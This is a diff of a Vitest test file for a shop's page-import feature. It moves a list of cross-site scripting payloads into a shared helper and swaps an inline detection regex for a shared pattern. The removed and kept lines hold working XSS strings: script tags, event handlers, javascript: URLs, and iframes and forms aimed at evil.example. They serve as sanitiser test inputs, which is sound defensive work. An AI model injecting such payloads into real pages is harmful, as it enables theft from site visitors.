@@ -6,6 +6,7 @@ import { describe, expect, it } from 'vitest';
 import { translators } from '#i18n/all.ts';
 import { forgetCatalogue } from '#server/catalogue/index.ts';
 import { aProduct } from '#tests/support/catalogue-builders.ts';
+import { couldRun, scriptAttacks } from '#tests/support/script-attacks.ts';
 import { useTestShop } from '#tests/support/test-shop.ts';
 import { importPages, listVersions, publishDue, publishVersion } from './index.ts';
 import { filesOf } from '#server/storage/index.ts';
@@ -60,25 +61,9 @@ describe('pages from files (PAGE-4)', () => {
   });
 });
 
-/** Ways in which a page might bring a script. */
+/** Ways in which a page alone might bring a script, and those of every text. */
 const attacks = [
-  '<script>steal()</script>',
-  '<img src=x onerror=steal()>',
-  '<a href="javascript:steal()">x</a>',
-  '<a href=" java\nscript:steal()">x</a>',
-  '<a href="data:text/html,<script>steal()</script>">x</a>',
-  '<svg onload=steal()><script>steal()</script></svg>',
-  '<iframe src="https://evil.example/steal"></iframe>',
-  '<object data="steal.swf"></object><embed src="steal">',
-  '<p style="background:url(javascript:steal())">x</p>',
-  '<form action="https://evil.example"><input name="steal"></form>',
-  '<math><mi xlink:href="javascript:steal()">x</mi></math>',
-  '<base href="https://evil.example/steal/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/steal">',
-  '<p onclick="steal()">x</p>',
-  '<details ontoggle="steal()" open>x</details>',
-  '<<script>script>steal()</script>',
-  '<scr<script>ipt>steal()</scr</script>ipt>',
+  ...scriptAttacks,
   '<div data-widget="disclaimer" data-name="x"><p onmouseover="steal()">x<script>steal()</script></p></div>',
   '<div data-widget="drawer-menu" data-title="x"><a href="javascript:steal()">x</a></div>',
   '<div data-widget="slider"><div><p onclick="steal()">x</p><script>steal()</script></div></div>',
@@ -92,9 +77,7 @@ describe('a page with scripts (PAGE-4)', () => {
       await importFiles({ [`${code}.en.md`]: page(`Before.\n\n${attack}\n\nAfter.`).replace('about-us', code) });
       const stored = JSON.stringify(await blocksOf(code));
 
-      expect(stored).not.toMatch(
-        /<script|<iframe|<object|<svg|<form|<base|<meta|javascript:|\son\w+=|data:text|style=/i,
-      );
+      expect(stored).not.toMatch(couldRun);
     },
   );
 
